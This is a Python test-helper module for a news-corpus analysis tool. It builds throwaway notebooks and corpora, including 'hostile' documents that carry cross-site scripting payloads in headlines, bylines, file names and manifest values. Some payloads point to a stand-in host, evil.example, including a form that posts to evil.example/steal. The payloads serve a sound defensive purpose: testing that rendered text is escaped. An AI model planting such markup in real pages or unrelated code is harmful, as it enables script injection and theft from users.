"""Throwaway notebooks, hostile and dated corpora, and the command-line build, for the report and browser tests."""

import os
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat

PROJECT_ROOT = Path(__file__).resolve().parent.parent

# A document whose text is markup: shown escaped it is harmless text; inserted as HTML it would
# run a script or an onerror handler that sets window.__pwned (and request the image "x").
# Its two dollar amounts in one sentence would be typeset as TeX by JupyterLab if not protected.
HOSTILE_TEXT = """ISIS <script>window.__pwned = "script"</script> defeated: a hostile headline

BAGHDAD, Nov. 22, 2017 - Iraqi forces said 2,000 ISIS fighters were killed <script>window.__pwned = "script"</script> near Mosul, and Daesh <img src=x onerror="window.__pwned = 'img'"> lost $500 billion and $2,000 a fighter.

"We defeated <b>Daesh</b> and Hezbollah helped," said Haider al-Abadi <img src=x onerror="window.__pwned = 'img'">, the prime minister.
"""

CELLS = [
    "from IPython.display import HTML\n\nfrom analysis.views import charts\nfrom analysis.views.html import highlight\n"
    "from analysis.views.notebook import setup\n\ncorpus = setup()",
    'print(f"documents: {len(corpus.documents)}")',
    'corpus.documents[["doc_id", "title", "n_words"]]',
    'charts.bar(corpus.documents, "doc_id", "n_words", color="outlet", title="Words per document")',
    'per_doc = corpus.sentences.groupby("doc_id").size().reset_index(name="sentences")\n'
    'charts.bar(per_doc, "doc_id", "sentences", title="Sentences per document")',
    'HTML("<br>".join(highlight(s.text, [(0, 4, "first characters")]) for s in corpus.sentences.itertuples()))',
]


# A wire story written for the tests, with every kind of date the dates stage normalises: a dateline to the day,
# weekdays, "in the past week" and "last week" (ISO weeks), last month, last year, next year, a day range, a clock
# time, "two days later", "three weeks ago", "a decade ago".
DATED_TEXT = """Troops push on after a hard week

BAGHDAD, Oct 12, 2017 (Reuters) - Iraqi forces said on Tuesday they had advanced in the past week, after heavy fighting last week and last month near Mosul.

Last year the city fell to Islamic State, and next year it will be rebuilt, Colonel Mark Hensley told reporters. "We will stay," Hensley said.

On October 4-5, 2017 the army moved; on November 22, 2017 at 9:00 pm it stopped. Two days later it moved again, three weeks ago and a decade ago.
"""


def write_notebook(path: Path, title: str, cells: list[str] = CELLS) -> Path:
    """A small notebook in the shape of the real ones: set-up, a count, a table, two charts, highlights."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [nbformat.v4.new_markdown_cell(f"# {title}\n\nA throwaway page for the tests.")]
    nb.cells += [nbformat.v4.new_code_cell(source) for source in cells]
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def _seed_and(folder: Path, seed_index: int, name: str, text: str) -> Path:
    """A corpus folder holding one seed article (by its place in seeds/) and one document written for a test."""
    folder.mkdir(parents=True, exist_ok=True)
    seed = sorted((PROJECT_ROOT / "seeds").glob("*.txt"))[seed_index]
    shutil.copy(seed, folder / seed.name)
    (folder / name).write_text(text, encoding="utf-8")
    return folder


def hostile_corpus(folder: Path) -> Path:
    """A corpus of one seed article and one document made of markup."""
    return _seed_and(folder, 1, "900_hostile.txt", HOSTILE_TEXT)


# Markup where the first audit found it ran: in a file name, a headline, a byline, a source tag, a licence line and
# manifest values, plus bare links and Markdown links in the text. Each payload either sets window.__pwned, opens a
# dialog, requests something from evil.example, redirects the page or hides it (a <style> marked "hostile").
HOSTILE_NAME = '<meta http-equiv=refresh content="1;url=http:evil.example"><img src=x onerror=alert(1)>'
HOSTILE_METADATA_TEXT = """<style>body{display:none} /* hostile */</style> The siege of <a href="javascript:window.__pwned='link'">Raqqa</a> ends

By Jane <img src=x onerror="window.__pwned='byline'"> Smith

Iraqi forces said on Friday that they had taken the city, see http://evil.example/track or www.evil.example and write to spy@evil.example, ![pixel](http://evil.example/pixel.png) and [click here](javascript:alert('md')) for more.

<form action="http://evil.example/steal"><input name=q></form> "We won the battle for the city," said the commander of the forces.

(Source: <b onmouseover="window.__pwned='via'">Reuters</b> http://evil.example/via)

\u00a9 2017 <iframe src="http://evil.example/frame"></iframe> Daily
"""
HOSTILE_MANIFEST = {
    "genre": "<script>window.__pwned='genre'</script><img src=http://evil.example/genre.png> opinion",
    "genre_source": "<a href=\"javascript:window.__pwned='source'\">reader</a>\n\n# heading [x](http://evil.example)",
}


def hostile_metadata_corpus(folder: Path) -> Path:
    """The five seed articles, the hostile document, a document whose file name, headline, byline, source tag and
    licence line are markup, and a manifest whose values are: an analyst's corpus with a few hostile files in it."""
    import csv

    hostile_corpus(folder)
    for seed in sorted((PROJECT_ROOT / "seeds").glob("*.txt")):
        shutil.copy(seed, folder / seed.name)
    (folder / f"{HOSTILE_NAME}.txt").write_text(HOSTILE_METADATA_TEXT, encoding="utf-8")
    with (folder / "manifest.csv").open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["doc_id", *HOSTILE_MANIFEST])
        for doc_id in sorted(p.stem for p in folder.glob("*.txt")):
            writer.writerow([doc_id, *HOSTILE_MANIFEST.values()])
    return folder


def dated_corpus(folder: Path) -> Path:
    """A corpus of one seed article and a wire story dated "in the past week" and "last week"."""
    return _seed_and(folder, 0, "901_wire.txt", DATED_TEXT)


def cli_build(corpus: Path, out: Path) -> subprocess.CompletedProcess:
    """`python -m analysis build` in a fresh process, as an analyst runs it: the tables, then the report whose
    notebooks read them."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(PROJECT_ROOT), os.environ.get("PYTHONPATH", "")])}
    return subprocess.run([sys.executable, "-m", "analysis", "build", "--corpus", str(corpus), "--out", str(out)],
                          capture_output=True, text=True, env=env, timeout=1800)
